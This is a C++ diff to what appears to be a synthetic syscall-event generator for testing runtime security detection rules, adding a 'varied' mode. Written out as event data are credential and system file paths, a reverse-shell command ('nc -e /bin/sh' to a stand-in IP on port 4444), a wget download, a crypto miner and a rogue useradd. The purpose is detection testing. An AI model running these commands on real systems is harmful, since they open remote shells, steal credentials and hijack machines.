@@ -38,6 +38,46 @@ const char* const kPaths[] = {
     "/etc/ssl/certs/ca-certificates.crt",
 };
 
+// What the varied stream adds: paths, programs and peers the upstream
+// rules single out.
+const char* const kVariedPaths[] = {
+    "/etc/shadow",
+    "/etc/sudoers",
+    "/etc/pam.d/sshd",
+    "/etc/sudoers.d/admins",
+    "/root/.ssh/id_rsa",
+    "/home/alice/.ssh/authorized_keys",
+    "/home/alice/.bashrc",
+    "/root/.bash_history",
+    "/etc/cron.d/backup",
+    "/var/spool/cron/crontabs/root",
+    "/dev/shm/payload",
+    "/dev/newdev",
+    "/proc/1/environ",
+    "/var/log/auth.log",
+    "../../../etc/passwd",
+    "/srv/app/../../etc/shadow",
+    "/usr/bin/newtool",
+    "/usr/lib/x86_64-linux-gnu/liblzma.so.5",
+    "/var/lib/rpm/Packages",
+    "/etc/apt/sources.list.d/extra.list",
+    "/etc/ld.so.preload",
+    "/boot/vmlinuz",
+    "/.hidden/file",
+    "/var/run/secrets/kubernetes.io/serviceaccount/token",
+    "/sys/fs/cgroup/release_agent",
+    "/etc/profile.d/x.sh",
+    "/tmp/.X11-unix/.hidden",
+};
+
+const uint64_t kVariedFlags[] = {
+    O_RDONLY | O_CLOEXEC,
+    O_WRONLY | O_CREAT | O_TRUNC,
+    O_RDWR,
+    O_WRONLY | O_APPEND,
+    O_RDONLY | O_DIRECTORY,
+};
+
 struct Proc {
     int64_t pid;
     std::vector<int64_t> fds;
@@ -46,7 +86,8 @@ struct Proc {
 
 class StreamBuilder {
 public:
-    StreamBuilder(uint64_t seed, bool lifecycles) : rng_(seed), lifecycles_(lifecycles) {}
+    StreamBuilder(uint64_t seed, bool lifecycles, bool varied)
+        : rng_(seed), lifecycles_(lifecycles), varied_(varied) {}
 
     std::vector<uint8_t> build(size_t events) {
         for (int i = 0; i < kProcesses; ++i) seed_process(kFirstPid + i);
@@ -97,9 +138,19 @@ private:
     void openat(Proc& p) {
         RecordBuilder b("openat");
         const char* path = kPaths[next() % std::size(kPaths)];
+        uint64_t flags = O_RDONLY | O_CLOEXEC;
+        int64_t fd = 0;
+        if (varied_ && next() % 2) {
+            path = kVariedPaths[next() % std::size(kVariedPaths)];
+            flags = kVariedFlags[next() % std::size(kVariedFlags)];
+            // Some attempts fail (fd.num = -1, evt.res = ENOENT).
+            fd = next() % 8 == 0 ? -2 : take_fd(p);
+        } else {
+            fd = take_fd(p);
+        }
         b.thread(static_cast<uint32_t>(p.pid), static_cast<uint32_t>(p.pid))
-            .set("fd", take_fd(p)).set("dirfd", int64_t{AT_FDCWD}).set("name", path)
-            .set("flags", uint64_t{O_RDONLY | O_CLOEXEC}).set("dev", uint64_t{(8u << 20) | 1})
+            .set("fd", fd).set("dirfd", int64_t{AT_FDCWD}).set("name", path)
+            .set("flags", flags).set("dev", uint64_t{(8u << 20) | 1})
             .set("ino", next() % 100000);
         emit(b);
     }
@@ -122,9 +173,18 @@ private:
             .set("domain", int64_t{AF_INET}).set("type", uint64_t{SOCK_STREAM}).set("proto", 0u);
         emit(s);
         RecordBuilder c("connect");
+        const char* peer = "10.0.3.17";
+        uint16_t port = 5432;
+        if (varied_) {
+            static const char* const kPeers[] = {"10.0.3.17", "169.254.169.254", "203.0.113.9",
+                                                 "10.96.0.1", "192.168.1.20"};
+            static const uint16_t kPorts[] = {5432, 22, 2222, 4444, 443, 3333, 30080, 6443};
+            peer = kPeers[next() % std::size(kPeers)];
+            port = kPorts[next() % std::size(kPorts)];
+        }
         c.thread(static_cast<uint32_t>(p.pid), static_cast<uint32_t>(p.pid)).set("res", int64_t{0}).set("fd", fd)
-            .set_bytes("tuple", inet_tuple("10.0.0.5", static_cast<uint16_t>(30000 + next() % 30000), "10.0.3.17", 5432))
-            .set_bytes("addr", inet_sockaddr("10.0.3.17", 5432));
+            .set_bytes("tuple", inet_tuple("10.0.0.5", static_cast<uint16_t>(30000 + next() % 30000), peer, port))
+            .set_bytes("addr", inet_sockaddr(peer, port));
         emit(c);
     }
 
@@ -193,7 +253,21 @@ private:
             {"gzip", "/usr/bin/gzip", "gzip", {"-9", "/var/log/app/app.log.1"}},
             {"git", "/usr/bin/git", "git", {"pull", "--ff-only"}},
         };
-        const Image& img = kImages[next() % std::size(kImages)];
+        static const Image kVariedImages[] = {
+            {"bash", "/usr/bin/bash", "bash", {"-i"}},
+            {"nc", "/usr/bin/nc", "nc", {"-e", "/bin/sh", "203.0.113.9", "4444"}},
+            {"sudo", "/usr/bin/sudo", "sudo", {"-u", "root", "id"}},
+            {"find", "/usr/bin/find", "find", {"/", "-name", "id_rsa"}},
+            {"crontab", "/usr/bin/crontab", "crontab", {"-e"}},
+            {"useradd", "/usr/sbin/useradd", "useradd", {"mallory"}},
+            {"xmrig", "/tmp/xmrig", "xmrig", {"-o", "stratum+tcp://pool:3333"}},
+            {"base64", "/usr/bin/base64", "base64", {"-d"}},
+            {"apt-get", "/usr/bin/apt-get", "apt-get", {"install", "nmap"}},
+            {"wget", "/usr/bin/wget", "wget", {"http://203.0.113.9/x"}},
+        };
+        const Image& img = varied_ && next() % 2
+                               ? kVariedImages[next() % std::size(kVariedImages)]
+                               : kImages[next() % std::size(kImages)];
         RecordBuilder ex("execve");
         ex.thread(static_cast<uint32_t>(child), static_cast<uint32_t>(child)).set("res", int64_t{0});
         snap(ex, child, parent.pid);
@@ -217,7 +291,7 @@ private:
         else if (r < 940) udp(p);
         else if (r < 955) dup2(p);
         else if (r < 975) fcntl(p);
-        else if (r < 975 + (lifecycles_ ? 10 : 0)) lifecycle(p);
+        else if (r < 975 + (lifecycles_ ? (varied_ ? 25 : 10) : 0)) lifecycle(p);
         else close(p);
         // Keep tables realistic: processes do not accumulate fds forever.
         while (p.fds.size() > 200) close(p);
@@ -225,6 +299,7 @@ private:
 
     uint64_t rng_;
     bool lifecycles_;
+    bool varied_;
     uint64_t ts_ = 1'000'000'000;
     size_t count_ = 0;
     int64_t next_child_ = 100000;
@@ -235,7 +310,7 @@ private:
 }  // namespace
 
 std::vector<uint8_t> build_syscall_mix(size_t events, const MixOptions& options) {
-    StreamBuilder builder(options.seed, options.lifecycles);
+    StreamBuilder builder(options.seed, options.lifecycles, options.varied);
     return builder.build(events);
 }
 
